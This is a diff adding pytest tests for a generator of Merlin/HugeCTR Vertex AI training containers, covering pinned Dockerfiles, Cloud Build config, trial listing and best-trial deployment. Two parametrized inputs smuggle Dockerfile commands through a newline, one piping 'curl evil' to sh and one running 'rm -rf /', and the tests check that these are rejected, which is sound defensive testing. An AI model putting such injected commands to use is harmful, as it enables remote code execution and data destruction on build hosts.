@@ -519,3 +519,118 @@ def test_torchrun_launcher_rendezvous_of_two_nodes(tmp_path):
     assert [p.returncode for p in nodes] == [0, 0], outs
     assert sorted(f.name for f in tmp_path.glob("rank*")) == ["rank0", "rank1"]
     assert {f.read_text() for f in tmp_path.glob("rank*")} == {"2"}
+
+
+# ---- seed 004's container, trials and best-trial deploy ------------------------------------------------------------
+
+def test_container_files_pin_the_seed_image_and_build_task_py():
+    """vertex/Dockerfile is seed 004's Dockerfile.hugectr (its Merlin image, pinned; cloudml-hypertune at the
+    project's pin; task.py where `python -m task` finds it) and cloudbuild.yaml builds it as the seed's build does."""
+    docker = (VERTEX / "vertex" / "Dockerfile").read_text().splitlines()
+    instructions = [ln for ln in docker if ln and not ln.startswith("#")]
+    assert instructions[0] == "FROM nvcr.io/nvidia/merlin/merlin-training:22.04"
+    pin = next(ln for ln in (REPO / "requirements" / "constraints.txt").read_text().splitlines()
+               if ln.startswith("cloudml-hypertune=="))
+    assert f"RUN pip install --no-cache-dir {pin}" in instructions
+    assert instructions.index("WORKDIR /src") < instructions.index("COPY task.py ./")
+    build = yaml.safe_load((VERTEX / "vertex" / "cloudbuild.yaml").read_text())
+    assert build["steps"] == [{"name": "gcr.io/cloud-builders/docker", "args": [
+        "build", "-t", "gcr.io/$PROJECT_ID/hugectr-training", "-f", "vertex/Dockerfile", "."]}]
+    assert build["images"] == ["gcr.io/$PROJECT_ID/hugectr-training"]
+    assert (build["timeout"], build["options"]["machineType"]) == ("7200s", "E2_HIGHCPU_8")
+
+
+@pytest.mark.parametrize("image,ok", [("nvcr.io/nvidia/merlin/merlin-hugectr:23.06", True),
+                                      ("nvcr.io/nvidia/merlin/merlin-hugectr@sha256:" + "ab" * 32, True),
+                                      ("nvcr.io/nvidia/merlin/merlin-hugectr:latest", False),
+                                      ("nvcr.io/nvidia/merlin/merlin-hugectr", False),
+                                      ("img:1\nRUN curl evil | sh", False)])
+def test_base_image_must_be_pinned(tmp_path, image, ok):
+    proc = _generate(_variant(tmp_path, "deepfm_vertex", lambda d: d["vertex"].update(base_image=image)),
+                     tmp_path / "out")
+    if ok:
+        assert proc.returncode == 0, proc.stderr
+        assert f"FROM {image}\n" in (tmp_path / "out" / "deepfm_vertex" / "vertex" / "Dockerfile").read_text()
+    else:
+        _error(proc, "vertex.base_image")
+        assert not (tmp_path / "out").exists()
+
+
+def test_image_uri_with_a_newline_is_refused(tmp_path):
+    proc = _generate(_variant(tmp_path, "deepfm_vertex",
+                              lambda d: d["vertex"].update(image_uri="gcr.io/p/x\nRUN rm -rf /")), tmp_path / "out")
+    _error(proc, "vertex.image_uri")
+
+
+def _tuning_job(tmp_path: Path) -> Path:
+    """A finished tuning job as `gcloud ai hp-tuning-jobs describe --format=json` prints it (REST JSON, camelCase):
+    four trials, one infeasible, one without a final measurement."""
+    def trial(i, state, auc, lr, dropout):
+        t = {"id": str(i), "state": state, "parameters": [{"parameterId": "dropout_rate", "value": dropout},
+                                                           {"parameterId": "lr", "value": lr}]}
+        if auc is not None:
+            t["finalMeasurement"] = {"stepCount": "25000", "metrics": [{"metricId": "AUC", "value": auc}]}
+        return t
+    doc = {"name": "projects/895/locations/us-central1/hyperparameterTuningJobs/77",
+           "displayName": "hugectr-deepfm-v01-tuning", "state": "JOB_STATE_SUCCEEDED",
+           "studySpec": {"metrics": [{"metricId": "AUC", "goal": "MAXIMIZE"}]},
+           "trialJobSpec": {"baseOutputDirectory": {"outputUriPrefix": "gs://bkt/hugectr-deepfm-v01/j1"}},
+           "trials": [trial(1, "SUCCEEDED", 0.7912, 0.0021, 0.5), trial(2, "SUCCEEDED", 0.8011, 0.0047, 0.4),
+                      trial(3, "INFEASIBLE", None, 0.0093, 0.6), trial(4, "SUCCEEDED", 0.7650, 0.0011, 0.6)],
+           "someFieldOfALaterApi": 1}
+    path = tmp_path / "job.json"
+    path.write_text(json.dumps(doc))
+    return path
+
+
+def test_trials_lists_each_trial_and_names_the_best(tmp_path):
+    job = _tuning_job(tmp_path)
+    proc = _py_here(VERTEX / "vertex" / "submit.py", "trials", "--from-json", str(job), "--save",
+                    str(tmp_path / "saved.json"), env={})
+    assert proc.returncode == 0, proc.stderr
+    lines = proc.stdout.splitlines()
+    assert lines[0].split() == ["trial", "state", "AUC", "dropout_rate", "lr"]
+    assert lines[1].split() == ["1", "SUCCEEDED", "0.791200", "0.5", "0.0021"]
+    assert lines[3].split() == ["3", "INFEASIBLE", "-", "0.6", "0.0093"]
+    assert lines[-1] == "best: trial 2 (AUC 0.801100)"
+    # What --save wrote reads back to the same table.
+    again = _py_here(VERTEX / "vertex" / "submit.py", "trials", "--from-json", str(tmp_path / "saved.json"), env={})
+    assert again.stdout == proc.stdout
+    # Minimizing picks the lowest.
+    doc = json.loads(job.read_text())
+    doc["studySpec"]["metrics"][0]["goal"] = "MINIMIZE"
+    job.write_text(json.dumps(doc))
+    proc = _py_here(VERTEX / "vertex" / "submit.py", "trials", "--from-json", str(job), env={})
+    assert proc.stdout.splitlines()[-1] == "best: trial 4 (AUC 0.765000)"
+    bad = tmp_path / "bad.json"
+    bad.write_text("[1, 2")
+    proc = _py_here(VERTEX / "vertex" / "submit.py", "trials", "--from-json", str(bad), env={})
+    assert proc.returncode == 1 and "not a tuning job's description" in proc.stderr
+
+
+@pytest.mark.slow
+def test_deploy_best_trial_assembles_its_weights(tmp_path):
+    """deploy --trial best runs `ctrgen assemble` on <output>/<best trial id>/model under the FUSE mount."""
+    from demo_data import built_demo
+
+    job = _tuning_job(tmp_path)
+    model = tmp_path / "gcs" / "bkt" / "hugectr-deepfm-v01" / "j1" / "2" / "model"
+    ps = json.loads((VERTEX / "triton" / "ps.json").read_text())["models"][0]
+    model.mkdir(parents=True)
+    (model / Path(ps["dense_file"]).name).write_bytes(b"\0" * 8)
+    for sparse in ps["sparse_files"]:
+        (model / Path(sparse).name).mkdir()
+        for part in ("key", "emb_vector"):
+            (model / Path(sparse).name / part).write_bytes(b"")
+    workflow = built_demo().paths["criteo"]["workflow"]
+    proc = _py_here(VERTEX / "vertex" / "submit.py", "deploy", "--from-json", str(job), "--gcs-root",
+                    str(tmp_path / "gcs"), "--workflow", str(workflow), "--out", str(tmp_path / "repo"),
+                    "--spec", str(REPO / "specs" / "deepfm_vertex.yaml"), env={"PYTHONPATH": str(REPO)})
+    assert proc.returncode == 0, proc.stderr
+    assert f"trial 2 (AUC 0.801100): {model}" in proc.stdout
+    served = tmp_path / "repo" / "deepfm_vertex" / "1"
+    assert (served / Path(ps["dense_file"]).name).read_bytes() == b"\0" * 8
+    # An unknown trial is one line.
+    proc = _py_here(VERTEX / "vertex" / "submit.py", "deploy", "--trial", "9", "--from-json", str(job),
+                    "--workflow", str(workflow), "--out", str(tmp_path / "r2"), env={})
+    assert proc.returncode == 1 and "--trial '9': the job has trials ['1', '2', '3', '4']" in proc.stderr
